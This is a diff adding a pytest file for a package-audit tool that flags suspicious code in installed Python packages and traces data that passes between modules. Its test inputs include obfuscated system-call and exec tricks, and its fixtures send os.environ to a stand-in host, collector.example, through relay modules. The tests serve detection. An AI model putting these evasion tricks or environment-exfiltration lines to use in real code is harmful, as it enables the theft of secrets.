@@ -1,0 +1,104 @@
+"""Files of installed packages: which of them are read, and that nothing passes through one unread."""
+
+from pathlib import Path
+
+import pytest
+
+from ringfence.audit.code import glance
+from ringfence.audit.code.project import join
+from ringfence.audit.code.python import read
+from ringfence.audit.finding import Place
+from ringfence.audit.messages import Look
+from ringfence.audit.survey import Scope, survey
+
+PLAIN = "def add(a, b):\n    return a + b\n"
+HOME = "lib/site-packages/pack/"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "import requests\n",
+        "import os, socket as s\n",
+        "x = 1; from urllib import request\n",
+        "KEY = os.environ\n",
+        "run = [exec]\n",
+        "eval(x)\n",
+        "f = exec if x else y\n",
+        "o.system(x)\n",
+        "from os import system as s\n",
+        "getattr(o, 'sys' + 'tem')(x)\n",
+        "getattr(o, '\\x73ystem')(x)\n",
+        "vars(o)['metsys'[::-1]](x)\n",
+        "client.fetch(u, verify=False)\n",
+        "api_secret = x\n",
+        "TO = '0x" + "ab12" * 10 + "'\n",
+        "U = 'https://api.binancee.net/'\n",
+        "ｅxec(x)\n",
+        "importlib\n",
+    ],
+)
+def test_a_file_with_a_word_that_tells_is_read(text: str) -> None:
+    path = HOME + "a.py"
+    assert not read(path, (PLAIN + text).encode(), whole=False).skimmed
+    assert read(path, (PLAIN + "U = 'https://docs.example.net/'\n").encode(), whole=False).skimmed
+
+
+@pytest.mark.parametrize("path", ["bot/a.py", "a.whl!/site-packages/a.py", "site-packages.py", HOME + "a.pth"])
+def test_only_what_is_installed_is_skimmed(path: str) -> None:
+    assert not read(path, PLAIN.encode(), whole=False).skimmed
+    assert not read(HOME + "a.py", PLAIN.encode()).skimmed
+
+
+def test_another_encoding_is_read() -> None:
+    assert glance.tells(PLAIN.encode("utf-16"))
+    assert glance.tells(b"# coding: rot13\n" + PLAIN.encode())
+    assert not glance.tells(b"# -*- coding: utf-8 -*-\n" + PLAIN.encode())
+
+
+def test_a_skimmed_file_still_says_what_stands_out_of_sight_and_which_hosts_it_names() -> None:
+    text = PLAIN + "U = 'https://docs.example.net/'\nx = 1" + " " * 200 + "; y = (2)\n"
+    module = read(HOME + "a.py", text.encode(), whole=False)
+    assert module.skimmed
+    assert [found.rule for found in module.findings] == ["code/off-screen"]
+    assert [(one.what, one.place) for one in module.capabilities] == [("docs.example.net", Place(HOME + "a.py", 3))]
+
+
+SEND = "import requests\ndef send(x, to):\n    requests.post(to, json=x)\n"
+READ = "import os\ndef held():\n    return dict(os.environ)\n"
+TO = "'https://collector.example/n'"
+RELAYS = {
+    "handed on as a parameter": (
+        {"relay.py": "from .net import send\ndef go(x):\n    send(x, " + TO + ")\n"},
+        "import os\nfrom .relay import go\ngo(dict(os.environ))\n",
+    ),
+    "the host in a file of its own": (
+        {"conf.py": "PLACE = 'collector' + '.example'\n"},
+        "import os, requests\nfrom .conf import PLACE\nrequests.post(f'https://{PLACE}/n', json=dict(os.environ))\n",
+    ),
+    "taken from one and given to another": (
+        {"relay.py": "from .held import held\nfrom .net import send\nsend(held(), " + TO + ")\n"},
+        "x = 1\n",
+    ),
+    "through two": (
+        {"a.py": "from .b import go\ndef on(x):\n    go(x)\n",
+         "b.py": "from .net import send\ndef go(x):\n    send(x, " + TO + ")\n"},
+        "import os\nfrom .a import on\non(dict(os.environ))\n",
+    ),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(("relays", "main"), RELAYS.values(), ids=RELAYS.keys())
+def test_what_passes_through_a_skimmed_file_is_followed(relays: dict[str, str], main: str, tmp_path: Path) -> None:
+    folder = tmp_path / HOME
+    folder.mkdir(parents=True)
+    for name, text in {"net.py": SEND, "held.py": READ, "main.py": main, "plain.py": PLAIN, **relays}.items():
+        (folder / name).write_text(text)
+    assert all(read(HOME + name, text.encode(), whole=False).skimmed for name, text in relays.items())
+
+    seen = survey(tmp_path, Look(code=True), Scope(), lambda _: None)
+    found = [one for module in seen.modules for one in module.findings] + list(join(seen.modules))
+    assert "code/environment-sent" in {one.rule for one in found}
+    skimmed = {Path(one.path).name for one in seen.modules if one.skimmed}
+    assert "plain.py" in skimmed
+    assert skimmed <= {"plain.py", "main.py"}
